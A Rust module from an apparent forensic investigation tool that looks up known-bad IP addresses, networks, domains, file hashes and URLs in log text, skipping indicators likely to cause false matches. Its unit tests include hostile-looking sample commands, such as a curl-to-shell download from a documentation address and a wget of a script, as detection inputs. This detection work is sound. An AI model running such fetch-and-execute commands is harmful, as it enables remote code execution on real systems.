//! Looking up what is known to be bad: in a cell, and in any text. The time that it takes does not grow with the number
//! of indicators: text is cut into words, and each word is looked up.
//!
//! Left out are indicators that would accuse the wrong: addresses that are never routed or that the case's own hosts have, networks
//! wider than a /8 (a /16 of IPv6), and digests of the empty file.

use std::collections::{BTreeSet, HashMap};
use std::net::IpAddr;

use coldcase_model::action;
use coldcase_timeline::{Timeline, TimelineError};
use ipnet::IpNet;
use serde_json::Value;

use crate::facts::{Indicator, IndicatorType, is_internal};

/// Widest networks that still say something: a feed's `0.0.0.0/0` would be everybody.
const WIDEST: (u8, u8) = (8, 16);
/// MD5, SHA-1 and SHA-256 of nothing: feeds hold them, and every host has empty files.
const OF_NOTHING: [&str; 3] = [
    "d41d8cd98f00b204e9800998ecf8427e",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
];

/// Indicators, to look up in. Numbers are places in the list that it was made of.
pub(crate) struct Indicators {
    addresses: HashMap<String, usize>,
    networks: HashMap<IpNet, usize>,
    /// Lengths of prefixes that occur, longest first.
    lengths: BTreeSet<(bool, u8)>,
    domains: HashMap<String, usize>,
    hashes: HashMap<String, usize>,
    urls: HashMap<String, usize>,
}

impl Indicators {
    /// Those of the list that may be looked for, given the addresses that are the case's own.
    pub fn of(all: &[Indicator], own: &BTreeSet<String>) -> Self {
        let mut found = Self {
            addresses: HashMap::new(),
            networks: HashMap::new(),
            lengths: BTreeSet::new(),
            domains: HashMap::new(),
            hashes: HashMap::new(),
            urls: HashMap::new(),
        };
        for (place, one) in all.iter().enumerate() {
            let value = one.value.clone();
            match one.kind {
                IndicatorType::Ip if may_be_bad(&value) && !own.contains(&value) => {
                    found.addresses.insert(value, place);
                }
                IndicatorType::Cidr => found.add_network(&value, place),
                IndicatorType::Domain => {
                    found.domains.insert(value, place);
                }
                IndicatorType::Hash if !OF_NOTHING.contains(&value.as_str()) => {
                    found.hashes.insert(value, place);
                }
                IndicatorType::Url => {
                    found.urls.insert(bare_url(&value), place);
                }
                IndicatorType::Ip | IndicatorType::Hash => {}
            }
        }
        found
    }

    fn add_network(&mut self, value: &str, place: usize) {
        let Ok(network) = value.parse::<IpNet>() else {
            return;
        };
        let (is_v4, length) = (network.addr().is_ipv4(), network.prefix_len());
        let widest = if is_v4 { WIDEST.0 } else { WIDEST.1 };
        if length >= widest {
            self.networks.insert(network.trunc(), place);
            self.lengths.insert((is_v4, length));
        }
    }

    /// Whether there is none.
    pub fn is_empty(&self) -> bool {
        self.addresses.is_empty()
            && self.networks.is_empty()
            && self.domains.is_empty()
            && self.hashes.is_empty()
            && self.urls.is_empty()
    }

    /// Whether any is a URL.
    pub fn has_urls(&self) -> bool {
        !self.urls.is_empty()
    }

    /// The indicator that an address is, or the smallest network that it is in.
    pub fn address(&self, text: &str) -> Option<usize> {
        if let Some(place) = self.addresses.get(text) {
            return Some(*place);
        }
        if self.networks.is_empty() || !may_be_bad(text) {
            return None;
        }
        let address: IpAddr = text.parse().ok()?;
        let of_family = self.lengths.iter().rev();
        let mut lengths = of_family.filter(|(is_v4, _)| *is_v4 == address.is_ipv4());
        lengths.find_map(|(_, length)| {
            let network = IpNet::new(address, *length).ok()?.trunc();
            self.networks.get(&network).copied()
        })
    }

    /// The longest domain that a name is, or is below of.
    pub fn domain(&self, name: &str) -> Option<usize> {
        let mut rest = name;
        loop {
            if let Some(place) = self.domains.get(rest) {
                return Some(*place);
            }
            rest = rest.split_once('.')?.1;
        }
    }

    /// The URL that these make, whatever scheme.
    pub fn url(&self, host: &str, path: &str) -> Option<usize> {
        let whole = bare_url(&format!("{host}{path}"));
        let without_query = whole.split('?').next().unwrap_or(&whole);
        let known = self
            .urls
            .get(&whole)
            .or_else(|| self.urls.get(without_query));
        known.copied()
    }

    /// All that a text names.
    pub fn in_text(&self, text: &str, found: &mut BTreeSet<usize>) {
        let is_part = |sign: char| sign.is_ascii_alphanumeric() || ".-_:".contains(sign);
        for word in text.split(|sign: char| !is_part(sign)) {
            if word.len() > 3 {
                self.in_word(word.trim_matches(['.', ':', '-']), found);
            }
        }
        if self.has_urls() {
            for (at, _) in text.match_indices("://") {
                let rest = text.get(at + 3..).unwrap_or_default();
                let end =
                    rest.find(|sign: char| sign.is_whitespace() || "\"'<>|;)\\`".contains(sign));
                let (host, path) = split_url(rest.get(..end.unwrap_or(rest.len())).unwrap_or(rest));
                found.extend(self.url(host, path));
            }
        }
    }

    fn in_word(&self, word: &str, found: &mut BTreeSet<usize>) {
        if word.matches(':').nth(1).is_some() && word.parse::<IpAddr>().is_ok() {
            found.extend(self.address(word));
            return;
        }
        for part in word.split(':') {
            let part = part.trim_matches(['.', '-']);
            let is_hex = || part.bytes().all(|byte| byte.is_ascii_hexdigit());
            if matches!(part.len(), 32 | 40 | 64) && is_hex() {
                let known = self.hashes.get(&part.to_ascii_lowercase());
                found.extend(known);
            } else if part.contains('.') {
                if part.parse::<IpAddr>().is_ok() {
                    found.extend(self.address(part));
                } else if part.bytes().any(|byte| byte.is_ascii_uppercase()) {
                    found.extend(self.domain(&part.to_ascii_lowercase()));
                } else {
                    found.extend(self.domain(part));
                }
            }
        }
    }
}

fn may_be_bad(address: &str) -> bool {
    let is_special = match address.parse() {
        Ok(IpAddr::V4(v4)) => v4.is_unspecified() || v4.is_multicast() || v4.is_broadcast(),
        Ok(IpAddr::V6(v6)) => v6.is_unspecified() || v6.is_multicast(),
        Err(_) => true,
    };
    !is_special && !is_internal(address)
}

fn split_url(bare: &str) -> (&str, &str) {
    let end = bare.find('/').unwrap_or(bare.len());
    bare.split_at(end)
}

/// A URL without scheme, with its host in lower case and without a slash at its end.
fn bare_url(url: &str) -> String {
    let bare = url.split_once("://").map_or(url, |(_, rest)| rest);
    let (host, path) = split_url(bare);
    let path = path.trim_end_matches('/');
    format!("{}{path}", host.to_ascii_lowercase())
}

/// Addresses that the case's hosts say are theirs.
pub(crate) fn own_addresses(
    timeline: &Timeline,
    facts: &crate::CaseFacts,
) -> Result<BTreeSet<String>, TimelineError> {
    let of_case = facts.hosts.iter().flat_map(|host| host.addresses.clone());
    let mut own: BTreeSet<String> = of_case.collect();
    let actions = [action::INTERFACE_LISTED, action::HOST_LISTED];
    let rows = timeline.select(&actions, &["src_ip", "attributes"])?;
    for row in 0..rows.rows() {
        own.extend(rows.text("src_ip", row).map(str::to_owned));
        let json: Option<Value> = rows
            .text("attributes", row)
            .and_then(|text| serde_json::from_str(text).ok());
        let listed = json
            .as_ref()
            .and_then(|json| json.get("addresses")?.as_array());
        let listed = listed.into_iter().flatten().filter_map(Value::as_str);
        own.extend(listed.map(|text| text.split('/').next().unwrap_or(text).to_owned()));
    }
    Ok(own)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list() -> Vec<Indicator> {
        let of = |kind, value: &str| Indicator {
            kind,
            value: value.to_owned(),
        };
        vec![
            of(IndicatorType::Ip, "203.0.113.5"),
            of(IndicatorType::Ip, "10.0.0.5"),
            of(IndicatorType::Ip, "192.0.2.9"),
            of(IndicatorType::Cidr, "198.51.100.0/24"),
            of(IndicatorType::Cidr, "0.0.0.0/0"),
            of(IndicatorType::Domain, "evil.example"),
            of(IndicatorType::Hash, &"ab".repeat(32)),
            of(IndicatorType::Hash, OF_NOTHING[0]),
            of(IndicatorType::Url, "http://Files.test/a/b.sh"),
            of(IndicatorType::Ip, "2001:db8:9::1"),
            of(IndicatorType::Cidr, "198.51.100.64/26"),
        ]
    }

    #[test]
    fn words_of_texts_are_looked_up() {
        let own = BTreeSet::from(["192.0.2.9".to_owned()]);
        let known = Indicators::of(&list(), &own);
        let check = |text: &str, expected: &[usize]| {
            let mut found = BTreeSet::new();
            known.in_text(text, &mut found);
            let found: Vec<usize> = found.into_iter().collect();
            assert_eq!(found, expected, "{text}");
        };
        check("curl http://203.0.113.5:8080/x | sh", &[0]);
        check("203.0.113.55 1203.0.113.5 203.0.113.5.example", &[]);
        check("10.0.0.5 and 192.0.2.9", &[]);
        check("to 198.51.100.7.", &[3]);
        check("to 198.51.100.70", &[10]);
        check("8.8.8.8 0.0.0.0", &[]);
        check("A.EVIL.example:443", &[5]);
        check("notevil.example evil.example.test evil.example-x.test", &[]);
        check(&format!("sha256:{}", "AB".repeat(32)), &[6]);
        check(OF_NOTHING[0], &[]);
        check("wget https://files.test/a/b.sh?x=1;", &[8]);
        check("wget https://files.test/a/b.shx", &[]);
        check("[2001:db8:9::1]:53", &[9]);
        check("", &[]);
    }
}
